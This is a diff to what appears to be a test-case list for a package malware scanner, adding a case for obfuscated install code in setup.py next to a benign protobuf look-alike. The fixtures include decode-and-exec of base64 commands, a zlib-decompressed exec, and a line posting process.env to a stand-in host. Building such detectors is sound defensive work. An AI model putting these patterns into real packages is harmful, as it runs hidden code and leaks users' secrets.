@@ -119,6 +119,12 @@ CASES = [
     ("STATIC-JS-DECODE-EXEC",  # exec on a child_process handle, not RegExp#exec (satori)
      js({"index.js": "require('child_process').exec(Buffer.from(CMD, 'base64').toString());\n"}),
      js({"index.js": "const m = /^data:(?<t>[a-z/+]+);base64,(?<d>.*)/g.exec(url).groups; const b = Buffer.from(m.d, 'base64');\n"})),
+    ("STATIC-OBFUSCATED-INSTALL-CODE",  # pyspark: setup.py imports the package, which imports protobuf modules
+     py(setup_py("exec(__import__('zlib').decompress(b'" + "\\x78" * 1200 + "'))\n")),
+     py({"setup.py": "from pkg import proto_pb2\n" + TAIL, "pkg/__init__.py": "",
+         "pkg/proto_pb2.py": "from google.protobuf import descriptor_pool as _descriptor_pool\n"
+         "DESCRIPTOR = _descriptor_pool.Default().AddSerializedFile(b'" + "\\n\\x18" * 1200 + "')\n"
+         "_builder = lambda: None\n"})),
     ("STATIC-JS-ENV-EXFIL",
      js({"index.js": "const axios = require('axios');\naxios.post('https://collect.example/e', JSON.stringify(process.env));\n"}),
      js({"index.js": "const {spawn} = require('child_process');\nspawn('node', ['x.js'], {env: {...process.env, FORCE_COLOR: '1'}});\n"})),
